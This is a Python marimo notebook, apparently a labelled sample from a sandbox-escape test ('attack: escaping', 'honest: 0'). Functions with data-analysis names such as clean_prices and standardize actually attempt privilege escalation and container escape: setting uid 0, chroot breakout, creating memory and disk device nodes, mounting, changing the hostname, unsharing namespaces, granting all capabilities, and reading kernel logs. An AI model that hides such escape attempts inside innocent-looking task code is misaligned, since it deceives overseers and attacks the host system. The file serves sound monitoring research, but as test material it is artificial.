# attack: escaping
# tries: use or gain rights of the superuser: identities, devices, mounts, namespaces, the host's name
# honest: 0
# control: no
# ruff: noqa
import marimo

__generated_with = "0.25.2"
app = marimo.App()

with app.setup:
    import ctypes
    import os
    import socket
    import stat
    import tempfile

    LIBC = ctypes.CDLL(None, use_errno=True)


@app.function
def attempt(**ways):
    """What came of each way: breach with what it got, or held. A mistake of the attack itself is broken."""
    said = set()
    for name, way in ways.items():
        try:
            said.add(f"breach by {name}: {way()!r:.60}")
        except (AttributeError, LookupError, NameError, SyntaxError, TypeError) as error:
            said.add(f"broken {name}: {error}"[:90])
        except BaseException as error:
            said.add(f"held: {type(error).__name__}")
    return "; ".join(sorted(said))


@app.function
def asked(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


@app.function
def device(kind, major, minor):
    path = os.path.join(tempfile.mkdtemp(dir=os.getcwd()), "device")
    os.mknod(path, kind | 0o600, os.makedev(major, minor))
    return os.read(os.open(path, os.O_RDONLY), 4)


@app.function
def mount():
    folder = tempfile.mkdtemp(dir=os.getcwd()).encode()
    asked(LIBC.mount(b"none", folder, b"tmpfs", 0, None))
    return LIBC.umount2(folder, 0)


@app.function
def root_again():
    """Root can leave a chroot, so being able to make one is enough."""
    os.chroot(os.getcwd())
    return os.listdir("/")


@app.function
def clean_prices(sales):
    name = os.uname().nodename.encode()
    return attempt(
        identity=lambda: os.setresuid(0, 0, 0) or "set",
        chroot=root_again,
        group=lambda: os.setgroups([0]) or "set",
        memory=lambda: device(stat.S_IFCHR, 1, 1),
        disk=lambda: device(stat.S_IFBLK, 254, 0),
        host=lambda: asked(LIBC.sethostname(name, len(name))),
        mount=mount,
        user_namespace=lambda: asked(LIBC.unshare(0x10000000)),
        net_namespace=lambda: asked(LIBC.unshare(0x40000000)),
    )


@app.function
def standardize(X):
    return attempt(
        log=lambda: asked(LIBC.klogctl(3, ctypes.create_string_buffer(64), 64)),
        capabilities=lambda: asked(
            LIBC.capset((ctypes.c_uint32 * 2)(0x20080522, 0), (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6))
        ),
        terminal=lambda: os.open("/dev/tty", os.O_RDWR),
        console=lambda: os.open("/dev/console", os.O_WRONLY),
    )


@app.function
def median_by_rarity(sales):
    return None


@app.function
def fit_price_model(X, y):
    return None


if __name__ == "__main__":
    app.run()
